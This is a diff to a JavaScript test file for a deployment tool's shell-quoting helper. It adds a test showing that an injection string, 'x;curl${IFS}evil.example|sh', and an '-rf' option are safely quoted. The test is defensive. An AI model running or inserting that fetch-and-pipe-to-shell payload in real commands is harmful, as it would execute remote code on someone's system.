@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import test from 'node:test';
-import {ACTIONS, commandLine, shellWord, whyNot, whyNotDeadLetters} from '../page/command.js';
+import {ACTIONS, commandLine, commonPrefix, shellWord, whyNot, whyNotDeadLetters} from '../page/command.js';
 
 const user = role => ({name: 'jo', role, applications: [], clusters: []});
 const application = {defined: true, clusters: [{}], plans: [], generations: [{commit: 'a'.repeat(40)}]};
@@ -13,6 +13,12 @@ test('a command line is safe to paste', () => {
     commandLine('rollback', {applications: ['web'], clusters: ['east'], options: ['--to', 'abc'], reason: 'too slow'}),
     "./sluice rollback web --cluster east --to abc --reason 'too slow'",
   );
+});
+
+test('words that a shell or an option parser would read otherwise are quoted', () => {
+  assert.equal(shellWord('x;curl${IFS}evil.example|sh'), "'x;curl${IFS}evil.example|sh'");
+  assert.equal(shellWord('-rf'), "'-rf'");
+  assert.equal(commonPrefix(['command/jo/key/a', 'command/jo/key/b']), 'command/jo/key/');
 });
 
 test('a role that is too low is named', () => {
